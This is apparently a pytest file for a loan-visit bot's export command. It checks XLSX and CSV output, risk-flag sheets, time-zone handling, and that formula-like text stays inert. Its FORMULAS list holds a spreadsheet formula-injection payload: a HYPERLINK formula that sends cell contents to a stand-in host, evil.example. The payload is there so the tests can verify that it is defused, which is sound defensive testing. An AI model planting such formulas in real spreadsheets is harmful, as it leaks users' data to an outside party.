"""Exports: one row per visit, one column per question, a sheet of risk flags; CLI writes files."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Literal

from openpyxl import load_workbook
from sqlalchemy import text
from typer.testing import CliRunner

from bot.cli import app
from bot.desk.access import cli_admin
from bot.desk.export import VISIT_COLUMNS, export_csv, export_visits, export_xlsx, inert
from bot.desk.labels import answered_by_label, flag_label
from dialogs.catalog import ScriptCatalog
from storage.db import make_engine
from storage.models import Answer
from storage.repositories import VisitFilter
from tests.bot import planted

VISITBOT = [sys.executable, "-m", "bot"]
ANY_TIME = {"VISITBOT_CONTACT_WINDOW_START": "00:00", "VISITBOT_CONTACT_WINDOW_END": "00:00"}
"""The contact window switched off: these console visits run at whatever time the suite does."""


def run(args: list[str], env: dict[str, str], stdin: str = "") -> str:
    result = subprocess.run(
        [*VISITBOT, *args], input=stdin, env=env, capture_output=True, text=True, timeout=60, check=False
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_export_xlsx_and_csv(tmp_path: Path) -> None:
    env = dict(os.environ, VISITBOT_DATABASE_URL=f"sqlite+aiosqlite:///{tmp_path / 'x.db'}", **ANY_TIME)
    run(["demo", "load"], env)
    run(["console", "-b", "B001"], env, "1\n1\n差\n1\n压力很大\n/quit\n")
    run(["console", "-b", "B002"], env, "2\n")
    xlsx = tmp_path / "visits.xlsx"
    assert "已写入 2 条回访" in run(["export", "--output", str(xlsx)], env)
    book = load_workbook(xlsx)
    visits = list(book["visits"].iter_rows(values_only=True))
    header = visits[0]
    assert header[:3] == ("visit_id", "borrower_code", "borrower_name")
    assert "business_status" in header and "repayment_pressure" in header
    rows = {row[1]: dict(zip(header, row, strict=True)) for row in visits[1:]}
    assert rows["B001"]["business_status"] == "差" and rows["B001"]["max_severity"] == "high"
    assert rows["B002"]["outcome"] == "wrong_party" and rows["B002"]["business_status"] in (None, "")
    flags = list(book["risk_flags"].iter_rows(values_only=True))
    assert {row[3] for row in flags[1:]} == {"business_worse", "repayment_pressure_high"}

    only_high = tmp_path / "high.csv"
    run(["export", "--output", str(only_high), "--risk", "high"], env)
    table = list(csv.reader(io.StringIO(only_high.read_text(encoding="utf-8-sig"))))
    assert len(table) == 2 and table[1][1] == "B001"
    none = tmp_path / "none.csv"
    run(["export", "--output", str(none), "--outcome", "refused"], env)
    assert len(none.read_text(encoding="utf-8-sig").splitlines()) == 1


def test_invite_prints_a_deep_link(tmp_path: Path) -> None:
    env = dict(
        os.environ,
        VISITBOT_DATABASE_URL=f"sqlite+aiosqlite:///{tmp_path / 'i.db'}",
        VISITBOT_BOT_USERNAME="visit_demo_bot",
    )
    run(["demo", "load"], env)
    links = {run(["invite", "B003"], env).strip() for _ in range(2)}
    assert len(links) == 2
    assert all(link.startswith("https://t.me/visit_demo_bot?start=") and len(link) < 90 for link in links)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=1+2",
    "+1",
    "-1+2",
    "@SUM(1)",
    "\t=1+2",
    "\r=1+2",
    " =1+2",
    "＝1+2",
]


def formula_rows() -> tuple[list[str], list[list[object]], list[list[object]]]:
    """A header and rows where every text cell looks like a formula, next to real numbers."""
    header = ["visit_id", "borrower_name", "amount", *(f"q{i}" for i in range(len(FORMULAS)))]
    visits: list[list[object]] = [[7, FORMULAS[0], Decimal("150000.50"), *FORMULAS]]
    flags: list[list[object]] = [[7, "B001", "=1+2", "f", "high", "", "-1+2", "2026-01-01T00:00:00"]]
    return header, visits, flags


def test_xlsx_text_that_looks_like_a_formula_stays_text() -> None:
    header, visits, flags = formula_rows()
    book = load_workbook(io.BytesIO(export_xlsx(header, visits, flags)))
    row = next(book["visits"].iter_rows(min_row=2))
    assert (row[0].value, row[0].data_type) == (7, "n")
    assert row[2].data_type == "n" and float(row[2].value) == 150000.5
    for cell, original in zip(row[3:], FORMULAS, strict=True):  # (XML reads a carriage return back as \n)
        assert cell.data_type == "s" and cell.value == "'" + original.replace("\r", "\n")
    assert row[1].value == "'" + FORMULAS[0]
    flag_row = next(book["risk_flags"].iter_rows(min_row=2, values_only=True))
    assert flag_row[0] == 7 and flag_row[2] == "'=1+2" and flag_row[6] == "'-1+2"


def test_csv_text_that_looks_like_a_formula_stays_text() -> None:
    header, visits, _ = formula_rows()
    table = list(csv.reader(io.StringIO(export_csv(header, visits).decode("utf-8-sig"), newline="")))
    assert table[1][0] == "7" and table[1][2] == "150000.50"
    assert table[1][3:] == ["'" + f for f in FORMULAS]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in table[1])


def test_plain_text_is_untouched_and_control_characters_do_not_break_xlsx() -> None:
    assert [inert(v) for v in ("好", "B001", "50000", 3, None)] == ["好", "B001", "50000", 3, None]
    assert [inert(v) for v in ("\n=1+2", "\u3000=1+2")] == ["'\n=1+2", "'\u3000=1+2"]
    book = load_workbook(io.BytesIO(export_xlsx(["a"], [["响铃\x07字符"]], [])))
    assert book["visits"]["A2"].value == "响铃字符"


async def _plant(url: str) -> None:
    """A borrower whose name is a live formula."""
    engine = make_engine(url)
    async with engine.begin() as conn:
        await conn.execute(text("UPDATE borrowers SET name = :n WHERE code = 'B001'"), {"n": FORMULAS[0]})
    await engine.dispose()


def test_export_of_a_visit_with_formula_like_answers_round_trips_as_text(tmp_path: Path) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'f.db'}"
    env = {"VISITBOT_DATABASE_URL": url, "VISITBOT_LOCALE": "zh-CN", **ANY_TIME}
    runner = CliRunner()
    assert runner.invoke(app, ["demo", "load"], env=env).exit_code == 0
    asyncio.run(_plant(url))
    answers = ["1", "1", "好", "没有", "否", "按约定用途使用", "/skip", "=1+2", "/note @SUM(1)", "/quit"]
    visit = runner.invoke(app, ["console", "-b", "B001"], env=env, input="\n".join(answers) + "\n")
    assert visit.exit_code == 0, visit.output
    xlsx, table = tmp_path / "f.xlsx", tmp_path / "f.csv"
    for target in (xlsx, table):
        result = runner.invoke(app, ["export", "-o", str(target)], env=env)
        assert result.exit_code == 0, result.output
    sheet = load_workbook(xlsx)["visits"]
    header = [c.value for c in sheet[1]]
    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert cells["visit_id"].value == 1 and cells["visit_id"].data_type == "n"
    assert cells["borrower_name"].data_type == "s" and cells["borrower_name"].value == "'" + FORMULAS[0]
    assert (cells["needs"].value, cells["needs"].data_type) == ("'=1+2", "s")
    assert (cells["remark"].value, cells["remark"].data_type) == ("'@SUM(1)", "s")
    rows = list(csv.DictReader(io.StringIO(table.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[0]["borrower_name"] == "'" + FORMULAS[0]
    assert (rows[0]["needs"], rows[0]["remark"]) == ("'=1+2", "'@SUM(1)")


async def _plant_typed(url: str) -> None:
    """An overdue call with a promised date and amount, and a check-in with a call-back time (planted)."""
    async with planted.transaction(url) as session:
        officer = await planted.user(session, "信贷员", "officer", "东")
        borrower = await planted.borrower(session, "T1", officer)
        finished = datetime(2026, 11, 20, 18, 48, tzinfo=UTC)  # 02:48 the next day in Beijing
        visit = await planted.visit(session, borrower, officer, finished_at=finished)
        visit.script_id = "overdue_reminder"
        visit.script_version = ScriptCatalog().latest("overdue_reminder").script.version
        later = await planted.visit(session, borrower, officer, finished_at=finished)
        later.script_version = ScriptCatalog().latest("self_checkin").script.version
        session.add_all(
            [
                Answer(visit_id=visit.id, step_id="promise_date", question="哪天能还？", raw="11月25日",
                       value="2026-11-25", display="11月25日", answered_at=finished),
                Answer(visit_id=visit.id, step_id="promise_amount", question="能还多少？", raw="一万五千零五毛",
                       value="15000.5", display="15,000.5元", answered_at=finished),
                Answer(visit_id=later.id, step_id="call_time", question="什么时候方便？", raw="明天下午3点",
                       value="2026-11-21T15:00:00+08:00", display="11月21日 15:00", answered_at=finished),
            ]
        )  # fmt: skip


async def _export(url: str, kind: Literal["xlsx", "csv"], zone: str) -> bytes:
    async with planted.transaction(url) as session:
        file = await export_visits(
            session, cli_admin(), VisitFilter(limit=100), kind=kind, now=datetime(2026, 11, 21, tzinfo=UTC),
            zone=zone, catalog=ScriptCatalog(), actor="cli",
        )  # fmt: skip
    return file.data


def test_xlsx_dates_are_dates_in_the_viewers_zone_and_money_is_a_number(sqlite_url: str) -> None:
    asyncio.run(_plant_typed(sqlite_url))
    book = load_workbook(io.BytesIO(asyncio.run(_export(sqlite_url, "xlsx", "Asia/Shanghai"))))
    sheet = book["visits"]
    header = [c.value for c in sheet[1]]
    assert "finished_at (Asia/Shanghai)" in header and "started_at (Asia/Shanghai)" in header
    assert "callback_at (Asia/Shanghai)" in header and "call_time (Asia/Shanghai)" in header
    first, second = ({h: c for h, c in zip(header, row, strict=True)} for row in sheet.iter_rows(min_row=2))
    finished = first["finished_at (Asia/Shanghai)"]
    assert finished.value == datetime(2026, 11, 21, 2, 48) and finished.is_date  # Beijing time, naive
    assert finished.number_format == "yyyy-mm-dd hh:mm"
    amount = first["promise_amount"]
    assert (amount.data_type, float(amount.value), amount.number_format) == ("n", 15000.5, "#,##0.00")
    promised = first["promise_date"]
    assert promised.is_date and promised.value == datetime(2026, 11, 25) and promised.number_format == "yyyy-mm-dd"
    assert second["call_time (Asia/Shanghai)"].value == datetime(2026, 11, 21, 15, 0)
    raised = [c.value for c in book["risk_flags"][1]]
    assert raised[-2:] == ["raised_at (Asia/Shanghai)", "flag_label"]
    assert book["risk_flags"]["H2"].value == datetime(2026, 11, 21, 2, 39)
    urumqi = load_workbook(io.BytesIO(asyncio.run(_export(sqlite_url, "xlsx", "Asia/Urumqi"))))["visits"]
    assert urumqi["K1"].value == "finished_at (Asia/Urumqi)" and urumqi["K2"].value == datetime(2026, 11, 21, 0, 48)


def test_csv_keeps_its_shape_iso_times_and_the_text_people_read(sqlite_url: str) -> None:
    asyncio.run(_plant_typed(sqlite_url))
    text = asyncio.run(_export(sqlite_url, "csv", "Asia/Shanghai")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0])[: len(VISIT_COLUMNS)] == list(VISIT_COLUMNS)
    assert rows[0]["finished_at"] == "2026-11-20T18:48:00+00:00"
    # who gave the answers, and the flags by name, next to their codes
    assert answered_by_label("officer", "zh-CN") in rows[0]["answered_by"] and "officer" not in rows[0]["answered_by"]
    codes = [c for c in rows[0]["risk_flags"].split(", ") if c]
    assert codes and rows[0]["risk_flag_labels"] == "、".join(flag_label(c, "zh-CN") for c in codes)
    assert (rows[0]["promise_amount"], rows[0]["promise_date"]) == ("15,000.5元", "11月25日")
    assert rows[1]["call_time"] == "11月21日 15:00"
